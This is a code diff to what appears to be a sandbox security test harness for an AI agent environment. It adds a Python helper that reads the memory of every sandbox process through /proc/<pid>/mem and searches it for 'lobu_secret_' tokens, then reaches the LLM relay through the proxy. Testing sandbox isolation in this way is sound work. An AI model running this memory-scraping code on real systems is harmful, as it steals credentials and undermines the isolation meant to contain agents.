@@ -314,6 +314,33 @@ for a in json.loads(sys.argv[1]):
 }
 
 /**
+ * Python: `memory_chunks(maps, mem, skip)` yields the readable memory of a
+ * process (its `/proc/<pid>/maps` lines and open `/proc/<pid>/mem`) in pieces
+ * of 8 MiB. Bounded because Node reserves a code range of hundreds of MiB that
+ * is readable: read whole, it exhausts the sandbox's memory and the scan dies.
+ * Pieces overlap by 256 bytes, so a match across a boundary is still seen
+ * (possibly twice).
+ */
+export const PY_MEMORY_CHUNKS = `
+def memory_chunks(maps, mem, skip=lambda parts: False, size=8 << 20, overlap=256):
+    for line in maps:
+        parts = line.split()
+        if "r" not in parts[1] or skip(parts):
+            continue
+        start, end = (int(x, 16) for x in parts[0].split("-"))
+        pos = start
+        while pos < end:
+            begin = max(start, pos - overlap)
+            try:
+                mem.seek(begin)
+                data = mem.read(min(end, pos + size) - begin)
+            except (OSError, ValueError, OverflowError):
+                break
+            yield data
+            pos += size
+`;
+
+/**
  * A bash command running Python that first digs every placeholder out of the
  * memory of the sandbox's processes (the worker's included: it lives in the
  * sandbox) and finds the relay one, then runs `body`. `body` can use `found`
@@ -324,6 +351,7 @@ for a in json.loads(sys.argv[1]):
 export function digRelay(body: string): string {
   const script = `
 import os, re, urllib.request, urllib.error
+${PY_MEMORY_CHUNKS}
 pattern = re.compile(rb"lobu_secret_[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
 known = {os.environ.get("GITHUB_TOKEN", ""), os.environ.get("NOTES_TOKEN", "")}
 found = set()
@@ -333,16 +361,8 @@ for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpi
         mem = open(f"/proc/{pid}/mem", "rb", 0)
     except OSError:
         continue
-    for line in maps:
-        parts = line.split()
-        if "r" not in parts[1]:
-            continue
-        start, end = (int(x, 16) for x in parts[0].split("-"))
-        try:
-            mem.seek(start)
-            found.update(m.decode() for m in pattern.findall(mem.read(end - start)))
-        except (OSError, ValueError, OverflowError):
-            pass
+    for chunk in memory_chunks(maps, mem):
+        found.update(m.decode() for m in pattern.findall(chunk))
 relay = os.environ["HTTP_PROXY"] + "/__lobu/llm/anthropic"
 opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
 import http.client
